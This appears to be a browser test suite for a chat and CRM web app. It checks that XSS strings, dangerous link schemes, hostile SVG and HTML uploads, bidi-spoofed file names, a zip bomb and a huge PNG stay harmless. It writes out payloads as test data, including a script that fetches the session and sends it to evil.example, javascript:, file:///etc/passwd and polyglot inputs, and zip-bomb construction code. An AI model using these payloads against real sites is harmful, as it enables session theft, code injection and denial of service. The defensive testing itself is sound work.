// Hostile content in real browsers: names, messages and files that would like to be more than text. Nothing runs, nothing is
// loaded from elsewhere, nothing stands in a wrong place, and the screens stay usable.
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { after, before, test } from 'node:test';
import { deflateRawSync } from 'node:zlib';
import { demo, desk, fits, isLive, noFaults, phone, seek, settled, shot, startBrowser, startLine, words } from '../support/browser.mjs';
import { client, startHansa, until } from '../support/hansa.mjs';
import { ok, once, problem } from '../support/world.mjs';

const t = words('en');
const script = `<script>alert('s')</script><img src=x onerror=alert('i')>`;
const markup = `"><svg onload=alert(1)><a href="javascript:alert(2)">x</a><style>*{display:none}</style>`;
const title = `Hull ${script}`, roomTitle = `Club ${markup}`;
let h, b, line, anna, piotr, guest, lead, room, club;

before(async () => {
  h = await startHansa({ demo: true });
  b = await startBrowser();
  line = await startLine();
  anna = await client(h.url).login(demo('anna').email, demo('anna').password);
  piotr = await client(h.url).login(demo('piotr').email, demo('piotr').password);
  lead = ok(await anna.post('/api/leads', { title, company_name: markup }, once()), 201).id;
  ok(await anna.put(`/api/records/${lead}/grants/${piotr.me.company.id}`, { level: 'comment' }), 204);
  room = ok(await anna.post(`/api/records/${lead}/room`, {})).id;
  club = ok(await anna.post('/api/rooms', { title: roomTitle, topic: script, companies: [piotr.me.company.id], history: true }, once()), 201).id;
  ok(await piotr.post(`/api/rooms/${club}/accept`), 204);
  await say(anna, 'Welcome'); // from here on she is in the room and can be named
  const { link } = ok(await anna.post(`/api/rooms/${room}/guests`, { name: 'Guest', days: 3, history: true }, once()), 201);
  guest = client(h.url);
  ok(await guest.post('/api/guests/enter', { token: link.split('#')[1], name: `<img src=x onerror=alert('g')>`, organisation: markup }));
});
after(async () => {
  await b?.close();
  await line?.close();
  await h?.stop();
});

const post = (who, to, text, more = {}) => who.post(`/api/rooms/${to}/messages`, { cid: randomUUID(), text, ...more });
const say = async (who, text, more, to = room) => ok(await post(who, to, text, more), 201);
const bring = async (who, name, body) => ok(await who.request('POST', `/api/files?name=${encodeURIComponent(name)}`,
  { body, headers: { 'content-type': 'application/octet-stream' } }), 201);
const send = async (name, body, text = `file ${name}`) => {
  const f = await bring(piotr, name, body);
  return { ...f, message: (await say(piotr, text, { files: [f.id] })).id };
};
const list = (page) => page.getByRole('region', { name: new RegExp(`^${t('room.messages_of', { room: '' })}`) });
const find = (page, text) => seek(list(page), text);

// A window of Anna's that tells of every breach of the content policy and of every request that would leave this site.
async function open(path, size = desk) {
  const page = await b.window(h.url, { as: 'anna', size, ...(size === phone && { isMobile: true, hasTouch: true }), proxy: line.proxy });
  page.context().setDefaultTimeout(60000);
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', (e) => console.error(`policy: ${e.violatedDirective} ${e.blockedURI}`));
  });
  page.elsewhere = [];
  page.context().on('request', (r) => { if (!r.url().startsWith(h.url) && !/^(data|blob|about):/.test(r.url())) page.elsewhere.push(r.url()); });
  if (path) {
    await page.goto(h.url + path);
    await settled(page);
  }
  return page;
}
function harmless(page) {
  noFaults(page);
  assert.deepEqual(page.elsewhere, [], 'asked of other sites');
  assert.deepEqual(line.strangers, [], 'asked of other computers');
}
const injected = (page) => page.locator('#content :is(img[src=x], svg[onload], a[href^="javascript:" i], script, style, iframe, object)').count();
// How long the page was busy with what `work` did, in milliseconds of its own work.
async function busy(page, work) {
  const tools = await page.context().newCDPSession(page);
  await tools.send('Performance.enable', { timeDomain: 'threadTicks' });
  const spent = async () => (await tools.send('Performance.getMetrics')).metrics.find((m) => m.name === 'TaskDuration').value * 1000;
  const begin = await spent();
  await work();
  await page.evaluate(() => new Promise((done) => { requestAnimationFrame(() => requestAnimationFrame(done)); }));
  return (await spent()) - begin;
}

test('script in names of people, companies, rooms, leads and files, and in messages, stays text on a desk and a phone', async () => {
  await say(piotr, script);
  await say(piotr, `${markup} **bold** ${script}`);
  await say(piotr, '{{constructor.constructor("alert(3)")()}} ${alert(4)} $t(nav.leads)');
  await say(guest, script, { mentions: [anna.me.person.id] });
  await say(piotr, script, {}, club);
  await send(`${script}.txt`, 'x');
  for (const size of [desk, phone]) {
    const page = await open(`/rooms/${room}`, size);
    const where = size === phone ? 'phone' : 'desk';
    await find(page, `<script>alert('s')</script>`);
    assert.equal(await page.locator('h1').evaluate((e) => e.textContent.includes('<script>')), true);
    await find(page, 'constructor.constructor("alert(3)")()');
    const strange = await find(page, `<img src=x onerror=alert('g')>`);
    await strange.getByText('onload=alert(1)').first().waitFor();
    await (await find(page, `file ${script}.txt`)).getByRole('link').filter({ hasText: 'onerror=alert' }).waitFor();
    await fits(page, `room on a ${where}`);
    assert.equal(await injected(page), 0);
    await shot(page, `rooms-hostile-${where}`);

    await page.getByRole('button', { name: t('room.people'), exact: true }).click();
    await page.getByRole('dialog').getByText(`<img src=x onerror=alert('g')>`).first().waitFor();
    await fits(page, `people on a ${where}`);
    await page.keyboard.press('Escape');
    await page.getByRole('dialog').waitFor({ state: 'detached' });

    await page.getByRole('button', { name: t('room.menu'), exact: true }).click();
    await page.getByRole('menuitem', { name: t('room.files') }).click();
    await page.getByRole('complementary', { name: t('room.side_files') }).getByText('onerror=alert').first().waitFor();
    await fits(page, `files on a ${where}`);

    await page.goto(`${h.url}/rooms/${club}`);
    await settled(page);
    await find(page, `<script>alert('s')</script>`);
    assert.ok((await page.locator('h1').innerText()).includes(markup.slice(0, 20)));
    await fits(page, `club on a ${where}`);
    await page.goto(`${h.url}/rooms`);
    await page.getByRole('navigation', { name: t('nav.rooms') }).getByText(roomTitle).waitFor();
    await fits(page, `rooms on a ${where}`);
    assert.equal(await injected(page), 0);
    if (size === desk) {
      await page.keyboard.press('n');
      await page.getByRole('dialog').waitFor();
      await page.getByRole('dialog').getByText(t('notice.room_mention', { title })).waitFor();
      await page.keyboard.press('Escape');
      await page.getByRole('dialog').waitFor({ state: 'detached' });
      await page.keyboard.press('Control+k');
      await page.getByRole('dialog').getByRole('textbox').fill('onerror');
      await page.getByRole('dialog').getByText('onerror').first().waitFor();
      await page.goto(`${h.url}/leads/${lead}`);
      await settled(page);
      await find(page, `<script>alert('s')</script>`);
      await fits(page, 'lead with its room');
    }
    harmless(page);
    await page.done();
  }
});

test('files that would like to be pages or programs are opened directly, and nothing of them runs', async () => {
  const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1); fetch("https://evil.example/svg")</script><image href="https://evil.example/i.png"/></svg>';
  const html = '<!doctype html><script>alert(1); document.cookie; fetch("/api/session").then((r) => r.text()).then((x) => fetch("https://evil.example/?" + x))</script><img src="https://evil.example/h.png">';
  const files = {
    svg: await send('plan.svg', svg), html: await send('plan.html', html), 'html called png': await send('plan.png', html),
    'svg with a preface': await send('a.svg', `<?xml version="1.0"?>\n<!-- ${'x'.repeat(2000)} -->${svg}`),
    xhtml: await send('x.xhtml', `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`),
    'gif and program': await send('a.gif', Buffer.from(`GIF89a/*\x01\0\0\0\0*/=1;alert(1)//`, 'latin1')),
    program: await send('a.js', 'alert(1); globalThis.ran = true'), worker: await send('sw.js', 'onfetch = () => {}'),
    style: await send('a.css', '*{display:none}'), mht: await send('a.mht', `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${html}`),
  };
  const page = await open('/favicon.svg');
  for (const [name, f] of Object.entries(files)) {
    const came = page.waitForEvent('download', { timeout: 60000 }).catch(() => null);
    const shown = await page.goto(`${h.url}/api/files/${f.id}`).catch((e) => e);
    if (shown instanceof Error) {
      assert.match(shown.message, /Download is starting|ERR_ABORTED/, name);
      const download = await came;
      assert.ok(download, `${name} is saved, not shown`);
      await download.cancel();
    } else { // a picture may be shown, alone and in a sandbox
      assert.match(shown.headers()['content-type'], /^image\/(png|jpeg|gif|webp)$/, name);
      assert.match(shown.headers()['content-security-policy'], /sandbox/);
    }
  }
  // The frame that the browser itself puts round a picture is held down by the sandbox too.
  page.faults = page.faults.filter((f) => !/^(Applying inline style|Blocked script execution)/.test(f) || !f.includes(`/api/files/${files['gif and program'].id}`));
  harmless(page);
  // Nor as a part of a page of ours, where the policy lets our own files in: the type says no.
  await page.goto(`${h.url}/`);
  await settled(page);
  const tried = await page.evaluate(async (ids) => {
    const part = (tag, attributes) => new Promise((done) => {
      const e = Object.assign(document.createElement(tag), attributes);
      e.addEventListener('load', () => done('loaded'));
      e.addEventListener('error', () => done('refused'));
      document.head.append(e);
    });
    const out = {};
    for (const [name, id] of Object.entries(ids)) {
      const url = `/api/files/${id}`;
      out[name] = [await part('script', { src: url }), await part('link', { rel: 'stylesheet', href: url }),
        await navigator.serviceWorker.register(url).then(() => 'loaded', () => 'refused'),
        await new Promise((done) => { try { const w = new Worker(url); w.onerror = () => done('refused'); w.onmessage = () => done('loaded'); } catch { done('refused'); } })];
    }
    return { out, ran: globalThis.ran };
  }, Object.fromEntries(['program', 'gif and program', 'style', 'worker'].map((name) => [name, files[name].id])));
  assert.equal(tried.ran, undefined);
  for (const [name, what] of Object.entries(tried.out)) assert.deepEqual(what, ['refused', 'refused', 'refused', 'refused'], name);
  assert.deepEqual(page.dialogs, []);
  assert.deepEqual(page.elsewhere, []);
  await page.done();

  const shown = await open(`/rooms/${room}`);
  assert.equal(await (await find(shown, 'file plan.svg')).locator('img').count(), 0, 'an SVG is no picture here');
  const came = shown.waitForEvent('download');
  await (await find(shown, 'file plan.html')).getByRole('link').click();
  assert.equal((await came).suggestedFilename(), 'plan.html');
  harmless(shown);
  await shown.done();
});

test('links of other schemes are not links, and pictures from elsewhere are not loaded', async () => {
  const schemes = ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', 'file:///etc/passwd',
    'blob:https://evil.example/x', 'intent://evil#Intent;end', '//evil.example/x', '\\\\evil.example\\x', 'view-source:http://x', ' javascript:alert(1)', '&#106;avascript:alert(1)',
    'javascript&colon;alert(1)', '%6aavascript:alert(1)'];
  for (const [i, url] of schemes.entries()) await say(piotr, `scheme ${i} [click](${url}) [angled](<${url}>) <${url}> [reference][r]\n\n[r]: ${url}`);
  await say(piotr, `pictures ![one](https://evil.example/1.png) [![two](https://evil.example/2.png)](https://evil.example/) <img src="https://evil.example/3.png"> `
    + '<iframe src="https://evil.example/"></iframe> ![three](data:image/svg+xml,<svg onload=alert(1)>) ![four](//evil.example/4.png)');
  await say(piotr, `good [link](https://www.example.org/a) and https://www.example.org/b, mail <mailto:x@example.org> and our own ${h.url}/leads/${lead}`);
  const page = await open(`/rooms/${room}`);
  await find(page, 'good link');
  await page.locator('[role=article] [class*=rich]').first().waitFor(); // Markdown is there
  const links = new Set();
  for (const i of schemes.keys()) {
    const it = await find(page, new RegExp(`scheme ${i}\\b`));
    for (const href of await it.getByRole('link').evaluateAll((all) => all.map((a) => a.href))) links.add(href);
  }
  for (const href of links) assert.match(href, /^(https?|mailto):/, href);
  for (const href of links) assert.ok(!/evil|script|passwd/.test(new URL(href).href) || /^https?:/.test(href), href);
  const good = await (await find(page, 'good link')).getByRole('link').evaluateAll((all) => all.map((a) => ({ href: a.getAttribute('href'), rel: a.rel, target: a.target })));
  for (const a of good.filter((it) => /example\.org/.test(it.href))) {
    assert.match(a.href, /^(https:\/\/www\.example\.org\/|mailto:x@example\.org)/);
    assert.match(a.rel, /noopener/);
    assert.equal(a.target, '_blank');
  }
  assert.ok(good.some((a) => a.href === 'https://www.example.org/b'), JSON.stringify(good));
  await find(page, 'pictures');
  assert.equal(await page.locator('[role=article] :is(img:not([src^="/api/files/"]), iframe, object, embed, video, audio)').count(), 0);
  harmless(page);
  await page.done();
});

test('a word of 100,000 characters is refused in words; one of 20,000 neither widens the page nor stops it', async () => {
  const huge = 'x'.repeat(100000), long = 'Überlandleitungsbau'.repeat(1100).slice(0, 20000);
  const refused = problem(await post(piotr, room, huge), 422);
  assert.match(refused.detail, /20,?000/);
  assert.equal(ok(await piotr.get('/api/session')).person.id, piotr.me.person.id);
  await say(piotr, `${long.slice(0, 19990)} tail`);
  await say(piotr, 'after the long word');
  for (const size of [desk, phone]) {
    const page = await open(`/rooms/${room}`, size);
    const where = size === phone ? 'phone' : 'desk';
    await find(page, 'after the long word');
    const word = await find(page, 'Überlandleitungsbau');
    await fits(page, `a long word on a ${where}`);
    const ms = await busy(page, async () => {
      await word.getByRole('button', { name: t('room.unfold') }).click();
      await word.filter({ hasText: 'tail' }).waitFor();
    });
    assert.ok(ms < 4000, `unfolding took ${ms} ms of work`);
    await fits(page, `a long word unfolded on a ${where}`);
    const box = page.getByRole('textbox', { name: t('room.write', { room: title }) });
    const pasted = await busy(page, () => box.fill(huge));
    assert.ok(pasted < 8000, `100,000 characters in the field took ${pasted} ms of work`);
    await page.getByText(t('room.too_long', { most: 20000 })).waitFor();
    assert.equal(await page.getByRole('button', { name: t('room.send'), exact: true }).isDisabled(), true);
    await fits(page, `too long to send on a ${where}`);
    await shot(page, `rooms-hostile-long-${where}`);
    await box.fill('');
    harmless(page);
    await page.done();
  }
});

test('marks that turn the direction of writing do not turn the neighbours', async () => {
  const turned = 'abc \u202Egnp.exe', arabic = '\u2067\u202E\u0627\u0644\u0639\u0631\u0628\u064A\u0629';
  const { link } = ok(await anna.post(`/api/rooms/${room}/guests`, { name: 'Bidi', days: 3 }, once()), 201);
  const stranger = client(h.url);
  ok(await stranger.post('/api/guests/enter', { token: link.split('#')[1], name: `Evil\u202E nosreP`, organisation: `Org\u202E xelpmoC` }));
  await say(stranger, `turned ${turned} ${arabic}`);
  await say(piotr, 'straight after it');
  const f = await send('invoice\u202Egnp.exe', 'MZ', 'a program');
  assert.ok(!/[\u202A-\u202E\u2066-\u2069]/.test(f.name), 'the name loses its marks');
  for (const size of [desk, phone]) {
    const page = await open(`/rooms/${room}`, size);
    await find(page, 'straight after it');
    const turns = await page.evaluate(() => {
      const wrong = [];
      const edge = (node, at) => {
        const range = document.createRange();
        range.setStart(node, at);
        range.setEnd(node, at + 1);
        return range.getBoundingClientRect();
      };
      // Every piece of Latin text that has no mark of its own must run from left to right.
      const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
      for (let node; (node = walker.nextNode());) {
        const text = node.data;
        if (!/^[\w][\x20-\x7e]*[\w]$/.test(text) || text.length < 3 || node.parentElement.closest('script, style')) continue;
        const [first, last] = [edge(node, 0), edge(node, text.length - 1)];
        if (first.width && last.width && first.top === last.top && first.left > last.left) wrong.push(text);
      }
      // In the line of names: the author, then the company, then the time.
      for (const by of document.querySelectorAll('[role=article] [class*=_by_]')) {
        const parts = [...by.children].map((e) => e.getBoundingClientRect()).filter((r) => r.width > 0);
        for (let i = 1; i < parts.length; i++) if (parts[i].top === parts[i - 1].top && parts[i].left < parts[i - 1].left) wrong.push(by.textContent);
      }
      return wrong;
    });
    assert.deepEqual(turns, []);
    assert.ok((await (await find(page, 'a program')).getByRole('link').innerText()).startsWith('invoicegnp.exe'), 'an exe is called exe');
    await page.goto(`${h.url}/rooms`);
    await page.getByRole('navigation', { name: t('nav.rooms') }).getByText(roomTitle).waitFor();
    await fits(page);
    harmless(page);
    await page.done();
  }
});

test('a zip bomb and a picture of ten thousand million points are kept and never unpacked or drawn', async () => {
  const zeros = deflateRawSync(Buffer.alloc(64 << 20));
  const name = Buffer.from('zeros.bin');
  const local = Buffer.alloc(30), central = Buffer.alloc(46), end = Buffer.alloc(22);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8);
  local.writeUInt32LE(zeros.length, 18);
  local.writeUInt32LE(0xfffffff0, 22);
  local.writeUInt16LE(name.length, 26);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(zeros.length, 20);
  central.writeUInt32LE(0xfffffff0, 24);
  central.writeUInt16LE(name.length, 28);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + name.length, 12);
  end.writeUInt32LE(30 + name.length + zeros.length, 16);
  const zip = Buffer.concat([local, name, zeros, central, name, end]);
  const png = Buffer.alloc(4096);
  Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex').copy(png);
  png.writeUInt32BE(100000, 16);
  png.writeUInt32BE(100000, 20);
  Buffer.from('0806000000', 'hex').copy(png, 24);
  const size = () => h.psql('SELECT 1').then(() => Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${h.pid('serve')}/status`, 'utf8'))[1]));
  const before = await size();
  const bomb = await send('bomb.zip', zip, 'a bomb of a zip'), wall = await send('wall.png', png, 'a wall of a picture');
  assert.deepEqual([bomb.preview, wall.preview, wall.type], [false, false, 'image/png']);
  assert.ok((await size()) - before < 50000, 'the server did not unpack it');
  const page = await open(`/rooms/${room}`);
  for (const text of ['a bomb of a zip', 'a wall of a picture']) {
    const it = await find(page, text);
    await it.getByRole('link').waitFor();
    assert.equal(await it.locator('img').count(), 0);
  }
  const came = page.waitForEvent('download');
  await (await find(page, 'a wall of a picture')).getByRole('link').click();
  await (await came).cancel();
  // Nor while it is being brought, from one's own machine.
  await page.locator('input[type=file]').setInputFiles({ name: 'wall.png', mimeType: 'image/png', buffer: png });
  await page.getByRole('button', { name: t('room.take_out', { name: 'wall.png' }) }).waitFor();
  assert.equal(await page.locator('form img').count(), 0);
  await isLive(page);
  await until(() => page.evaluate(() => document.readyState === 'complete'), { what: 'the page answers' });
  harmless(page);
  await page.done();
});
